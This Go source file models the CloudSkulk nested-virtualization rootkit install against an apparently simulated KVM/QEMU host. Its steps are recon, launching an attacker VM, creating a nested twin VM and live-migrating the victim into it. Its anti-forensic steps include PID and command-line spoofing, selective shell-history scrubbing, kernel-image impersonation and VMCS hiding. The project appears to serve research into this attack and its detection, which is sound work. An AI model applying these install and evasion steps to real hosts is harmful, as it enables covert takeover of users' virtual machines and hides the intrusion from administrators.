package core

import (
	"errors"
	"fmt"
	"time"

	"cloudskulk/internal/kvm"
	"cloudskulk/internal/mem"
	"cloudskulk/internal/migrate"
	"cloudskulk/internal/qemu"
)

// ErrTargetVanished is returned when the target VM disappears during
// the install.
var ErrTargetVanished = errors.New("cloudskulk: target vm disappeared during install")

// KernelPages is the size of the guest kernel-image region at the bottom
// of RAM used for fingerprinting and impersonation.
const KernelPages = 256

// InstallConfig parameterizes the attack.
type InstallConfig struct {
	// TargetName pins the victim VM; empty means "first QEMU process
	// recon finds".
	TargetName string
	// RITMName names the rootkit-in-the-middle VM (paper: GuestX).
	RITMName string
	// HostPort is the migration port the source connects to on the host
	// (paper: HOST PORT AAAA).
	HostPort int
	// RITMPort is the port inside the RITM the nested VM listens on
	// (paper: ROOTKIT PORT BBBB).
	RITMPort int
	// RITMMemoryMultiple sizes the RITM relative to the target (it must
	// hold the nested VM plus its own OS).
	RITMMemoryMultiple int64
	// KeepPID re-labels the RITM process with the victim's original PID
	// after the source is killed.
	KeepPID bool
	// SpoofCommandLine rewrites the RITM's process command line to the
	// victim's, so `ps -ef` shows no change.
	SpoofCommandLine bool
	// ScrubHistory removes the attacker's own launch commands from the
	// host's shell history (wiping everything would be suspicious;
	// selective removal is not).
	ScrubHistory bool
	// Impersonate copies the victim's kernel-image region into the RITM
	// so VMI fingerprinting of "the guest" still matches.
	Impersonate bool
	// HideVMCS runs the nested hypervisor with a software MMU so no
	// VMCS signature lands in RITM memory — the evasion against
	// memory-forensic scanners (at a performance price not modelled on
	// top of the normal nesting costs).
	HideVMCS bool
}

// DefaultInstallConfig returns the paper's setup.
func DefaultInstallConfig() InstallConfig {
	return InstallConfig{
		RITMName:           "guestX",
		HostPort:           4444,
		RITMPort:           4444,
		RITMMemoryMultiple: 2,
		KeepPID:            true,
		SpoofCommandLine:   true,
		ScrubHistory:       true,
		Impersonate:        true,
	}
}

// StepTiming records one install step's virtual-time cost.
type StepTiming struct {
	Name string
	Took time.Duration
}

// Report is the outcome of an installation.
type Report struct {
	TargetName   string
	TargetConfig qemu.Config
	ReconMethod  ReconMethod
	Migration    migrate.Result
	Steps        []StepTiming
	TotalTime    time.Duration
	PIDPreserved bool
	OriginalPID  int
}

// Rootkit is an installed CloudSkulk instance: handles to the RITM VM, the
// nested hypervisor inside it, and the victim now running as a nested
// guest.
type Rootkit struct {
	Host    *kvm.Host
	RITM    *qemu.VM
	InnerHV *kvm.Hypervisor
	Victim  *qemu.VM
	Report  *Report
}

// Installer executes the four-step CloudSkulk installation.
type Installer struct {
	Host      *kvm.Host
	Migration *migrate.Engine
}

// Install runs the attack end to end and returns the installed rootkit.
// The threat model's step 0 — having root on the host — is embodied by
// holding a *kvm.Host at all.
func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
	if cfg.RITMName == "" {
		cfg.RITMName = "guestX"
	}
	if cfg.HostPort == 0 {
		cfg.HostPort = 4444
	}
	if cfg.RITMPort == 0 {
		cfg.RITMPort = cfg.HostPort
	}
	if cfg.RITMMemoryMultiple < 2 {
		cfg.RITMMemoryMultiple = 2
	}

	eng := in.Host.Engine()
	hv := in.Host.Hypervisor()
	report := &Report{}
	start := eng.Now()
	step := func(name string, from time.Duration) time.Duration {
		now := eng.Now()
		report.Steps = append(report.Steps, StepTiming{Name: name, Took: now - from})
		return now
	}

	// Step 1: recon — find the target and its exact QEMU configuration.
	mark := eng.Now()
	targetCfg, method, err := in.findTarget(cfg)
	if err != nil {
		return nil, err
	}
	targetVM, ok := hv.VM(targetCfg.Name)
	if !ok {
		return nil, fmt.Errorf("%w: %q", ErrTargetVanished, targetCfg.Name)
	}
	// Command-line recon misses runtime state (hostfwd_add rules never
	// appear in ps). When the target exposes a monitor, refine the
	// network picture through `info network`.
	if targetCfg.MonitorPort != 0 {
		if mcfg, merr := (Recon{Host: in.Host}).ConfigViaMonitor(targetCfg.MonitorPort); merr == nil {
			targetCfg.NetDevs = mcfg.NetDevs
		}
	}
	report.TargetName = targetCfg.Name
	report.TargetConfig = targetCfg
	report.ReconMethod = method
	report.OriginalPID = targetVM.PID()
	mark = step("recon", mark)

	// Step 2: launch GuestX — the RITM — sized to host the victim, with
	// the migration forward HOST:AAAA -> RITM:BBBB.
	ritmCfg := qemu.DefaultConfig(cfg.RITMName)
	ritmCfg.Machine = targetCfg.Machine
	ritmCfg.MemoryMB = targetCfg.MemoryMB * cfg.RITMMemoryMultiple
	ritmCfg.CPUs = targetCfg.CPUs
	ritmCfg.EnableKVM = true
	ritmCfg.NetDevs[0].HostFwds = []qemu.FwdRule{{HostPort: cfg.HostPort, GuestPort: cfg.RITMPort}}
	ritm, err := hv.CreateVM(ritmCfg)
	if err != nil {
		return nil, fmt.Errorf("cloudskulk: create ritm: %w", err)
	}
	if err := hv.Launch(cfg.RITMName); err != nil {
		return nil, fmt.Errorf("cloudskulk: launch ritm: %w", err)
	}
	inner, err := hv.EnableNesting(cfg.RITMName)
	if err != nil {
		return nil, fmt.Errorf("cloudskulk: nest: %w", err)
	}
	inner.SoftwareMMU = cfg.HideVMCS
	mark = step("launch ritm", mark)

	// Step 3: create the nested destination VM inside GuestX — an exact
	// configuration twin of the victim, paused in incoming state. It
	// even takes the victim's name: the inner hypervisor is attacker
	// territory, nothing collides.
	nestedCfg := targetCfg.Clone()
	nestedCfg.Incoming = fmt.Sprintf("tcp:0.0.0.0:%d", cfg.RITMPort)
	nested, err := inner.CreateVM(nestedCfg)
	if err != nil {
		return nil, fmt.Errorf("cloudskulk: create nested: %w", err)
	}
	if err := inner.Launch(nestedCfg.Name); err != nil {
		return nil, fmt.Errorf("cloudskulk: launch nested: %w", err)
	}
	mark = step("launch nested destination", mark)

	// Step 4: drive the victim's own monitor to live-migrate it into the
	// nested VM.
	migCmd := fmt.Sprintf("migrate -d tcp:127.0.0.1:%d", cfg.HostPort)
	if _, err := targetVM.Monitor().Execute(migCmd); err != nil {
		return nil, fmt.Errorf("cloudskulk: migrate: %w", err)
	}
	res, ok := in.Migration.LastResult()
	if !ok {
		return nil, errors.New("cloudskulk: migration produced no result")
	}
	report.Migration = res
	mark = step("live migration", mark)

	// Clean-up: kill the drained source, take over its ports, PID, and
	// command line.
	originalFwds := fwdsOf(targetCfg)
	if err := hv.Kill(targetCfg.Name); err != nil {
		return nil, fmt.Errorf("cloudskulk: kill source: %w", err)
	}
	for _, rule := range originalFwds {
		takeover := qemu.FwdRule{HostPort: rule.HostPort, GuestPort: rule.HostPort}
		if err := ritm.AddHostFwd(takeover); err != nil {
			return nil, fmt.Errorf("cloudskulk: port takeover %d: %w", rule.HostPort, err)
		}
	}
	if cfg.KeepPID {
		if err := in.Host.OS().SwapPID(ritm.PID(), report.OriginalPID); err == nil {
			ritm.SetPID(report.OriginalPID)
			report.PIDPreserved = true
		}
	}
	if cfg.SpoofCommandLine {
		if proc, ok := in.Host.OS().Process(ritm.PID()); ok {
			proc.Command = targetCfg.CommandLine()
		}
	}
	if cfg.ScrubHistory {
		in.Host.OS().RemoveHistoryMatching("-name " + cfg.RITMName)
	}

	rk := &Rootkit{
		Host:    in.Host,
		RITM:    ritm,
		InnerHV: inner,
		Victim:  nested,
		Report:  report,
	}
	if cfg.Impersonate {
		if err := rk.MirrorKernel(); err != nil {
			return nil, fmt.Errorf("cloudskulk: impersonate: %w", err)
		}
	}
	step("cleanup & takeover", mark)
	report.TotalTime = eng.Now() - start
	return rk, nil
}

func (in Installer) findTarget(cfg InstallConfig) (qemu.Config, ReconMethod, error) {
	r := Recon{Host: in.Host}
	if cfg.TargetName == "" {
		return r.FindTarget(cfg.RITMName)
	}
	// Pinned target: still go through recon surfaces, but filter.
	for _, proc := range in.Host.OS().FindByCommand("-name " + cfg.TargetName) {
		parsed, err := qemu.ParseCommandLine(proc.Command)
		if err == nil && parsed.Name == cfg.TargetName {
			return parsed, ReconPS, nil
		}
	}
	for _, line := range in.Host.OS().HistoryMatching("-name " + cfg.TargetName) {
		parsed, err := qemu.ParseCommandLine(line)
		if err == nil && parsed.Name == cfg.TargetName {
			return parsed, ReconHistory, nil
		}
	}
	return qemu.Config{}, "", fmt.Errorf("%w: %q", ErrNoTarget, cfg.TargetName)
}

func fwdsOf(cfg qemu.Config) []qemu.FwdRule {
	var out []qemu.FwdRule
	for _, nd := range cfg.NetDevs {
		out = append(out, nd.HostFwds...)
	}
	return out
}

// MirrorKernel copies the victim's kernel-image region into the RITM's own
// RAM at the same offsets, so an OS fingerprint of "the guest the admin
// sees" matches the victim's.
func (rk *Rootkit) MirrorKernel() error {
	n := KernelPages
	if rk.Victim.RAM().NumPages() < n {
		n = rk.Victim.RAM().NumPages()
	}
	if rk.RITM.RAM().NumPages() < n {
		n = rk.RITM.RAM().NumPages()
	}
	for p := 0; p < n; p++ {
		c, err := rk.Victim.RAM().Read(p)
		if err != nil {
			return err
		}
		if _, err := rk.RITM.RAM().Write(p, c); err != nil {
			return err
		}
	}
	return nil
}

// MirrorFile loads a file image into the RITM's memory — the attacker
// keeping GuestX's memory contents plausible (same OS files as the
// victim), which is exactly the assumption the dedup detector exploits.
func (rk *Rootkit) MirrorFile(f *mem.File, atPage int) error {
	return rk.RITM.RAM().LoadFile(f, atPage)
}
